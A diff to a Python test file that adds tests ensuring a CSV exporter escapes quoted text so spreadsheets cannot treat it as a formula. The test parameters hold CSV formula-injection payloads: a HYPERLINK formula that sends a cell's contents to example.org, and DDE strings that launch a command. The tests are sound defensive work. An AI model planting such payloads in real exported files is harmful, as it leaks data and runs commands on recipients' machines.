@@ -15,7 +15,9 @@ from multilat_csv import (
     ENSEMBLE_COLUMNS,
     INFLUENCE_COLUMNS,
     OUTCOME_COLUMNS,
+    quote_of,
     render,
+    text_cell,
     write_rows,
 )
 
@@ -189,8 +191,42 @@ def test_quotes_read_back_exactly(first: str, second: str) -> None:
     (influence,) = (row for row in rows if row[0] == "cuts-split-club")
     cell = dict(zip(INFLUENCE_COLUMNS, influence, strict=True))
     folded = [c.quote for c in kb["cuts-split-club"].citations]
-    assert cell["quote"].split("\n") == folded
+    assert quote_of(cell["quote"]).split("\n") == folded
     assert cell["paragraph"].split("\n") == ["2", "3"]
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@given(st.text())
+def test_a_text_cell_is_never_a_formula_and_gives_its_text_back(text: str) -> None:
+    cell = text_cell(text)
+    assert not cell.startswith(_FORMULA_START)
+    assert quote_of(cell) == text
+    if not text.startswith((*_FORMULA_START, "'")):
+        assert cell == text  # nothing added where nothing could be read as a formula
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        '=HYPERLINK("http://example.org/?"&A1, "click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ],
+)
+def test_a_quote_that_would_be_a_formula_is_written_as_text(attack: str) -> None:
+    # Quotes are content, and a plugin's content is untrusted input.
+    kb = build((attack, "tweede"))
+    rows = read(render(Report(kb)))
+    (influence,) = (row for row in rows if row[0] == "cuts-split-club")
+    cell = dict(zip(INFLUENCE_COLUMNS, influence, strict=True))["quote"]
+
+    assert cell == "'" + attack + "\ntweede"
+    assert quote_of(cell).split("\n") == [attack, "tweede"]
+    # Numbers keep their sign: a spreadsheet reads "-0.5" as the number it is.
+    assert all(not row[5].startswith("'") for row in rows[1:])
 
 
 def test_the_language_does_not_change_the_bytes(kb: KnowledgeBase) -> None:
